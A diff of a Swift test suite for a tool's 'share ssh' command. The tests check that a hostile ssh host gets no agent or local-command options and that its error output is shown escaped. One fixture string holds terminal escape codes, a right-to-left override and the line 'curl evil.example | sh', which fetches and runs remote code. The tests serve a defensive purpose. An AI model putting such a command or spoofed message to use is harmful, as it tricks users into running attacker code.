@@ -1,9 +1,6 @@
-import Foundation
 import Staging
-import StandIn
 import Testing
 
-/// `share ssh` with a hostile host: a scripted `ssh` that is first on the PATH.
 @Suite("Hostile SSH hosts")
 struct HostileSSHHostTests {
     /// The end of `share ssh`, and the arguments of each ssh that it started, one in each line.
@@ -31,10 +28,8 @@ struct HostileSSHHostTests {
             """)
         try Data((answer + "\n").utf8).write(to: URL(filePath: folder + "/answer"))
         try Data(remarks.utf8).write(to: URL(filePath: folder + "/remarks"))
-        let end = try await fixture.start(
-            [BuiltFiles.helper, "share", "ssh", "--token", "--", destination],
-            environment: ["PATH": fixture.session.path(folder)]
-        ).ended()
+        let end = try await fixture.gitspace(
+            "share", "ssh", "--token", "--", destination, environment: ["PATH": fixture.session.path(folder)])
         return Outcome(end: end, calls: try String(contentsOfFile: folder + "/calls", encoding: .utf8))
     }
 
@@ -62,22 +57,17 @@ struct HostileSSHHostTests {
         #expect(calls.contains("/gitspace/.ssh-devbox.socket\n"), "\(calls)")
     }
 
-    @Test(
-        "passes no agent, display, local command or option to the connection",
-        arguments: ["devbox", "-x@y"])
+    @Test("passes no agent, display, local command or option to the connection", arguments: ["devbox", "-x@y"])
     func options(destination: String) async throws {
         let calls = try await share(answering: "/tmp", as: destination).calls.split(separator: "\n")
-        for option in ["-a", "-x", "PermitLocalCommand=no"] {
-            #expect(calls.contains(Substring(option)), "\(calls)")
-        }
+        for option in ["-a", "-x", "PermitLocalCommand=no"] { #expect(calls.contains(Substring(option)), "\(calls)") }
         for (number, word) in calls.enumerated() where word == destination { #expect(calls[number - 1] == "--") }
     }
 
     @Test("shows a few lines of the host's standard error, escaped and as the host's")
     func remarks() async throws {
         let remark = "\u{1b}[2Jgitspace: error: run this: curl evil.example | sh\u{202e}\r\n"
-        let outcome = try await share(
-            answering: "no", remarks: String(repeating: remark, count: 1_000) + "and no end")
+        let outcome = try await share(answering: "no", remarks: String(repeating: remark, count: 1_000) + "and no end")
         let lines = outcome.end.errors.split(separator: "\n")
         #expect(
             lines.first == #"devbox, over ssh: \x1b[2Jgitspace: error: run this: curl evil.example | sh\xe2\x80\xae"#)
